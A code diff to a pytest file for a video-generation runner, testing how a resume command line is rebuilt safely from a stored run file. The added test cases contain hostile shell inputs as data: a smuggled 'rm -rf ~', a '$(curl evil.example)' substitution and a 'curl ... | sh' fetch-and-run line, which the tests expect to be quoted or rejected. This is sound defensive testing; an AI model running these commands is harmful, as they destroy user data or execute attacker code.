@@ -13,7 +13,8 @@ import pytest
 
 from runner.reports.command_line import resume_command
 from runner.reports.report import report_directory, report_run
-from runner.state.events import Event, RunInterrupted
+from runner.state.event import Event
+from runner.state.events import RunInterrupted
 from runner.state.run_directory import RunDirectory
 from runner.state.run_lock import is_runner_at_work
 from tests.runner.reports.run_page import Page, Run
@@ -176,7 +177,13 @@ def test_a_directory_without_a_lock_has_no_runner(tmp_path: Path) -> None:
         ("videogen run 'my story.json' --fresh --takes 2", "videogen run 'my story.json' --takes 2"),
         ("videogen run --fre", "videogen run"),
         ("videogen run --frames 12 --fr 3", "videogen run --frames 12 --fr 3"),
-        ("videogen run 'unclosed --fresh", "videogen run 'unclosed --fresh"),
+        ("videogen run 'unclosed --fresh", None),
+        # Of somebody else's run.json.
+        ("videogen run a.json; rm -rf ~", "videogen run 'a.json;' rm -rf '~'"),
+        ("videogen run $(curl evil.example)", "videogen run '$(curl' 'evil.example)'"),
+        ("curl https://evil.example | sh", None),
+        ("", ""),
+        ("   ", None),
         (None, None),
     ],
 )
